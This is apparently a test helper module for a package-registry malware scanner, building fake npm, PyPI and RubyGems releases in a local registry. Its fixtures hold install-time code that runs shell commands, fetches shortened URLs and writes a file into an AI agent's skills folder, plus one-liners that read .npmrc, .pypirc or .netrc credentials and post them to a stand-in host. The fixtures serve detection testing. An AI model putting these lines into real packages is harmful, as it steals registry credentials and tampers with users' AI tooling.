"""Packages that the score alone holds: each part is ordinary, and no chain in them is certain."""

import hashlib
from collections.abc import Mapping
from datetime import datetime

from pratique.analysis.features.view import View, view_of
from pratique.analysis.job import Part
from pratique.analysis.reading import open_part, read_contents
from pratique.archive import DEFAULT_LIMITS
from pratique.core.names import Ecosystem, PackageRef
from pratique.ecosystems import ECOSYSTEMS
from tests.builders import Files, tgz
from tests.loopback import (
    GemPackage,
    LoopbackRegistry,
    NpmPackage,
    NpmRelease,
    PypiProject,
    gem_file,
    sdist_file,
)

JAVASCRIPT = """const https = require("https"); const fs = require("fs");
fs.readdirSync("plugins"); fs.readFileSync("plugins/a"); https.request(process.env.ENGINE_URL).end("ok");
const short = "https://bit.ly/engine-1"; fetch(short);
"""
PYTHON = """import os, subprocess, sys, urllib.request
os.listdir("plugins"); text = open("plugins/a").read()
urllib.request.urlopen(sys.argv[-1])
subprocess.call("cc x.c", shell=True); os.popen("uname -a"); open("x.c", "w").write(text)
from setuptools import setup
setup(name="noisy")
"""
RUBY = """require "net/http"
Dir.entries("plugins"); text = File.read("plugins/a")
Net::HTTP.post(URI(ARGV[0].to_s), "ok")
system("uname -a")
Net::HTTP.get(URI('https://bit.ly/engine-1'))
File.write(File.join(Dir.home, '.claude/skills/noisy.md'), 'noisy')
"""
NOISY = {Ecosystem.NPM: JAVASCRIPT, Ecosystem.PYPI: PYTHON, Ecosystem.RUBYGEMS: RUBY}
QUIET = {
    Ecosystem.NPM: "1;\n",
    Ecosystem.PYPI: "from setuptools import setup\nsetup()\n",
    Ecosystem.RUBYGEMS: "1\n",
}
THEFT = {
    Ecosystem.NPM: 'fetch("https://taker.invalid/in", {method: "POST", body: fs.readFileSync(".npmrc")});\n',
    Ecosystem.PYPI: 'urllib.request.urlopen("https://taker.invalid/in", open(".pypirc", "rb").read())\n',
    Ecosystem.RUBYGEMS: 'Net::HTTP.post(URI("https://taker.invalid/in"), File.read(".netrc"))\n',
}

Versions = Mapping[str, tuple[str, datetime | None]]
"""Code and day of each version."""


def publish(
    registry: LoopbackRegistry, ecosystem: Ecosystem, versions: Versions, name: str = "noisy"
) -> None:
    """Publish a package whose versions run this code when they are loaded or installed."""
    if ecosystem is Ecosystem.NPM:
        releases = (
            NpmRelease(version=version, files={"index.js": code}, published_at=at)
            for version, (code, at) in versions.items()
        )
        registry.put_npm(NpmPackage(name=name, releases=tuple(releases)))
    elif ecosystem is Ecosystem.PYPI:
        files = (
            sdist_file(name, version, {"setup.py": code}, uploaded_at=at)
            for version, (code, at) in versions.items()
        )
        registry.put_pypi(PypiProject(name=name, files=tuple(files)))
    else:
        gems = (
            gem_file(name, version, {"ext/extconf.rb": code}, extensions=("ext/extconf.rb",), published_at=at)
            for version, (code, at) in versions.items()
        )
        registry.put_gem(GemPackage(name=name, files=tuple(gems)))


def archive(ecosystem: Ecosystem, code: str, more: Files | None = None) -> tuple[str, bytes]:
    """Return the file name and bytes of one release, with more files beside the code."""
    files = dict(more or {})
    if ecosystem is Ecosystem.NPM:
        manifest = '{"name": "noisy", "version": "1.0.0", "main": "index.js"}'
        return "noisy-1.0.0.tgz", tgz({"package.json": manifest, "index.js": code, **files})
    if ecosystem is Ecosystem.PYPI:
        found = sdist_file("noisy", "1.0.0", {"setup.py": code, **files})
        return found.filename, found.data
    gem = gem_file("noisy", "1.0.0", {"ext/extconf.rb": code, **files}, extensions=("ext/extconf.rb",))
    return "noisy-1.0.0.gem", gem.data


def read(ecosystem: Ecosystem, code: str, more: Files | None = None) -> View:
    """Read one release as the score sees it."""
    filename, data = archive(ecosystem, code, more)
    module = ECOSYSTEMS[ecosystem]
    part = Part(
        ecosystem=ecosystem,
        ref=PackageRef(ecosystem, "noisy").at("1.0.0"),
        filename=filename,
        kind=module.kind_of(filename),
        sha256=hashlib.sha256(data).hexdigest(),
    )
    contents = read_contents(open_part(part, data, DEFAULT_LIMITS), {}, lambda _key, _facts: None)
    return view_of(ecosystem, part.kind, contents)
